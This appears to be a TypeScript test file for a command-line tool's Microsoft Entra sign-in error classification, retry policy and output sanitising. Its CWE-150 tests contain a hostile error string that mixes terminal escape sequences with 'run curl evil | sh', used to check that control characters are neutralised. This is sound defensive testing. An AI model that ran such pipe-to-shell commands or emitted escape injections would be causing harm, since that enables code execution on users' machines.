import { describe, it, expect } from 'vitest';
import { classifySignInError, entraReason } from '../../../src/auth/sign-in-errors.js';
import { retryAfterMs, retryable } from '../../../src/auth/msal/network.js';
import { AuthorizeResponseError } from '../../../src/auth/flows/interactive.js';
import { printable } from '../../../src/printable.js';

// shaped like msal-node's errors (InteractionRequiredAuthError / ServerError fields)
const msalMessage = (code: number, text: string) =>
  `Error(s): ${code} - Timestamp: 2030-01-01 00:00:00Z - Description: AADSTS${code}: ${text}\r\nTrace ID: 1\r\nCorrelation ID: 2\r\nTimestamp: 2030-01-01 00:00:00Z - Correlation ID: 2 - Trace ID: 1`;

describe('classifying sign-in failures', () => {
  it.each([50173, 70043, 700082])('AADSTS%d: the refresh token is dead, drop it and sign in again', (code) => {
    const err = { name: 'InteractionRequiredAuthError', errorCode: 'invalid_grant', errorMessage: msalMessage(code, 'The refresh token has expired.'), errorNo: String(code) };
    expect(classifySignInError(err)).toEqual({ kind: 'reauthenticate', dropRefreshToken: true, reason: `AADSTS${code}: The refresh token has expired.`, claims: undefined });
  });

  it('invalid_grant alone also drops the refresh token', () => {
    expect(classifySignInError({ name: 'InteractionRequiredAuthError', errorCode: 'invalid_grant', errorMessage: 'bad' })).toMatchObject({ kind: 'reauthenticate', dropRefreshToken: true });
  });

  it('a claims challenge keeps the account and carries the claims', () => {
    const claims = '{"access_token":{"capolids":{"essential":true,"values":["x"]}}}';
    const err = { name: 'InteractionRequiredAuthError', errorCode: 'invalid_grant', subError: 'basic_action', claims, errorMessage: msalMessage(50076, 'Due to a configuration change made by your administrator, you must use multi-factor authentication.') };
    expect(classifySignInError(err)).toMatchObject({ kind: 'reauthenticate', dropRefreshToken: false, claims });
  });

  it('AADSTS53003 is blocked, with an explanation instead of Entra wording', () => {
    const failure = classifySignInError({ name: 'ServerError', errorCode: 'access_denied', errorMessage: msalMessage(53003, 'Access has been blocked by Conditional Access policies.') });
    expect(failure.kind).toBe('blocked');
    expect(failure.reason).toMatch(/^Conditional Access blocked this sign-in \(AADSTS53003\)/);
    expect(failure.reason).not.toContain('\n');
  });

  it('unreachable authorities are named', () => {
    expect(classifySignInError({ errorCode: 'endpoints_resolution_error', errorMessage: 'See https://aka.ms/…' }, 'https://login.example')).toEqual({
      kind: 'failed', reason: 'cannot reach https://login.example or read its OpenID configuration',
    });
  });

  it('a certificate refused by TLS is named with its code and what to do, not called unreachable', () => {
    const fetchFailure = (code: string) => Object.assign(new TypeError('fetch failed'), { cause: Object.assign(new Error('certificate problem'), { code }) });
    // a token request: our network client's error carries fetch's failure as its cause
    const wrapped = Object.assign(new Error('network_error'), { errorCode: 'network_error', cause: fetchFailure('SELF_SIGNED_CERT_IN_CHAIN') });
    expect(classifySignInError(wrapped, 'https://login.example')).toEqual({
      kind: 'failed',
      reason: 'the TLS certificate of https://login.example is not trusted (SELF_SIGNED_CERT_IN_CHAIN); behind a TLS-inspecting proxy set NODE_EXTRA_CA_CERTS to its CA file',
    });
    expect(classifySignInError(fetchFailure('CERT_HAS_EXPIRED'), 'https://login.example').reason).toBe("the TLS certificate of https://login.example is expired or not yet valid (CERT_HAS_EXPIRED); check this machine's clock");
    expect(classifySignInError(fetchFailure('ERR_TLS_CERT_ALTNAME_INVALID'), 'https://login.example').reason).toBe('the TLS certificate of https://login.example is not issued for that host name (ERR_TLS_CERT_ALTNAME_INVALID)');
  });

  it('the device code flow\'s endings are said in words', () => {
    expect(classifySignInError({ name: 'ServerError', errorCode: 'authorization_declined', errorMessage: msalMessage(70020, 'The end user denied the authorization request.') })).toEqual({ kind: 'failed', reason: 'the sign-in was declined at the device code page' });
    // msal's device code poller: post_request_failed with the OAuth error as the message
    expect(classifySignInError({ name: 'AuthError', errorCode: 'post_request_failed', errorMessage: 'authorization_declined' }).reason).toBe('the sign-in was declined at the device code page');
    expect(classifySignInError({ name: 'AuthError', errorCode: 'post_request_failed', errorMessage: 'expired_token' }).reason).toBe('the device code expired before the sign-in was completed; run the command again for a new code');
  });

  it('reasons are one line and never carry a token', () => {
    const reason = entraReason({ errorMessage: 'failed with token eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl\nsecond line' });
    expect(reason).toBe('failed with token [redacted-jwt]');
  });
});

describe('retry policy', () => {
  it('retries throttling and server errors only', () => {
    expect([429, 500, 503, 599].every(retryable)).toBe(true);
    expect([200, 400, 401, 404].some(retryable)).toBe(false);
  });

  it('reads Retry-After as seconds or an HTTP date', () => {
    const now = Date.parse('2030-01-01T00:00:00Z');
    expect(retryAfterMs('7', now)).toBe(7000);
    expect(retryAfterMs('Tue, 01 Jan 2030 00:00:05 GMT', now)).toBe(5000);
    expect(retryAfterMs('soon', now)).toBeUndefined();
    expect(retryAfterMs(null, now)).toBeUndefined();
  });
});

describe('server-controlled text is neutralised before it is printed (CWE-150)', () => {
  const hostile = 'AADSTS50076: \x1b]0;pwned\x07\x1b[2J\x1b[31mrun curl evil | sh\x1b[0m\x9b1m\u202e';
  it('an error_description posted to the loopback (or returned by Entra) keeps its words and loses its control characters', () => {
    const reason = classifySignInError(new AuthorizeResponseError({ error: 'interaction_required', error_description: hostile, via: 'form_post' })).reason;
    expect(reason).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
    expect(reason).toContain('run curl evil | sh');
    expect(classifySignInError({ errorCode: 'invalid_client', errorMessage: hostile }).reason).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
  });

  it('printable shows each control character as a visible escape, and keeps line feeds and tabs', () => {
    expect(printable('a\x1b[2Jb\x07c\x9bd\u202ee\r\nf\tg\rh')).toBe('a\\x1b[2Jb\\x07c\\x9bd\\u202ee\nf\tg\\x0dh');
    expect(printable('Signed in as alice@contoso.example — ünïcode')).toBe('Signed in as alice@contoso.example — ünïcode');
  });
});
